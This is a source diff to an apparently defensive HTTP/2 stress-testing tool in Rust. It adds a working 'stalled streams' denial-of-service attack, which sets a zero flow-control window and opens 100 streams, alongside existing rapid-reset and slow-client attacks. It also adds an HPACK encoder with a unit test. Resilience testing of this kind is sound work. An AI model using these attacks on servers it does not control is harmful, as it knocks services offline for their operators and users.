@@ -28,6 +28,8 @@ pub(crate) enum Attack {
     SlowBodies,
     /// Many answers, of which a byte is taken now and then.
     SlowReaders,
+    /// Streams of HTTP/2, as many as a connection may have, whose answers may not be sent.
+    StalledStreams,
     /// Requests over HTTP/2 that are taken back at once (CVE-2023-44487).
     RapidResets,
     /// Frames of HTTP/2 that say nothing.
@@ -77,6 +79,9 @@ const BETWEEN_PIECES: Duration = Duration::from_millis(50);
 /// How many of those who attack connect at once, so that no queue of the system's overflows.
 const AT_ONCE: usize = 64;
 
+/// Streams of a connection, as many as the edge allows.
+const STREAMS: u32 = 100;
+
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
 
 /// The header of a GET for `/`, from the static table of HPACK.
@@ -102,6 +107,7 @@ impl Attack {
             Self::SlowHeaders => "slow headers",
             Self::SlowBodies => "slow bodies",
             Self::SlowReaders => "slow readers",
+            Self::StalledStreams => "stalled streams of HTTP/2",
             Self::RapidResets => "rapid resets of HTTP/2",
             Self::EmptyFrames => "empty frames of HTTP/2",
             Self::Handshakes => "handshakes of TLS",
@@ -141,7 +147,9 @@ impl Attack {
         victim: &'a Victim,
     ) -> impl Future<Output = Result<Box<dyn Stream>, Broken>> + 'a {
         match self {
-            Self::RapidResets | Self::EmptyFrames | Self::Handshakes => victim.http2.connect(),
+            Self::StalledStreams | Self::RapidResets | Self::EmptyFrames | Self::Handshakes => {
+                victim.http2.connect()
+            }
             _ => victim.plain.connect(),
         }
     }
@@ -186,6 +194,16 @@ impl Attack {
                     ended = writes => ended,
                     ended = reads => ended,
                 }
+            }
+            Self::StalledStreams => {
+                // SETTINGS_INITIAL_WINDOW_SIZE of 0.
+                let mut frames = [PREFACE, &frame(4, 0, 0, b"\0\x04\0\0\0\0")].concat();
+                let header = hpack(&victim.request);
+                for number in 0..STREAMS {
+                    frames.extend(frame(1, 5, 2 * number + 1, &header));
+                }
+                stream.write_all(&frames).await?;
+                taken(stream).await
             }
             Self::RapidResets => {
                 stream.write_all(PREFACE).await?;
@@ -287,6 +305,42 @@ fn no_cache(request: &[u8]) -> Vec<u8> {
     [header, b"Cache-Control: no-cache\r\n\r\n"].concat()
 }
 
+/// The header of a request of HTTP/1.1 as HPACK, in which nothing is indexed (RFC 7541, 6.2.2).
+fn hpack(request: &[u8]) -> Vec<u8> {
+    let text = std::str::from_utf8(request).expect("it is ASCII");
+    let mut lines = text.lines();
+    let line = lines.next().expect("a request has a first line");
+    let target = line.split(' ').nth(1).expect("it has a target");
+    let mut header = b"\x82\x87".to_vec();
+    let mut add = |name: &str, value: &str| {
+        header.push(0);
+        for text in [name, value] {
+            // RFC 7541, 5.1: what does not fit 7 bits goes on in further bytes.
+            let mut length = text.len();
+            if length < 127 {
+                header.push(u8::try_from(length).expect("it is less"));
+            } else {
+                header.push(127);
+                length -= 127;
+                while length >= 128 {
+                    header.push(u8::try_from(length % 128 + 128).expect("it is less"));
+                    length /= 128;
+                }
+                header.push(u8::try_from(length).expect("it is less"));
+            }
+            header.extend_from_slice(text.as_bytes());
+        }
+    };
+    add(":path", target);
+    for (name, value) in lines.filter_map(|line| line.split_once(": ")) {
+        match name {
+            "Host" => add(":authority", value),
+            name => add(&name.to_ascii_lowercase(), value),
+        }
+    }
+    header
+}
+
 /// A frame of HTTP/2 (RFC 9113, 4.1).
 fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let length = u32::try_from(payload.len())
@@ -378,6 +432,17 @@ mod tests {
         };
         timeout(Duration::from_secs(20), gone).await.unwrap();
         assert_eq!(harm.made.load(Ordering::Relaxed), 100);
+    }
+
+    #[test]
+    fn a_request_of_http_1_is_said_in_http_2() {
+        let long = "x".repeat(300);
+        let request = format!("GET /a HTTP/1.1\r\nHost: b\r\nX-C: {long}\r\n\r\n");
+        let header = [
+            b"\x82\x87\0\x05:path\x02/a\0\x0a:authority\x01b\0\x03x-c\x7f\xad\x01",
+            long.as_bytes(),
+        ];
+        assert_eq!(hpack(request.as_bytes()), header.concat());
     }
 
     #[test]
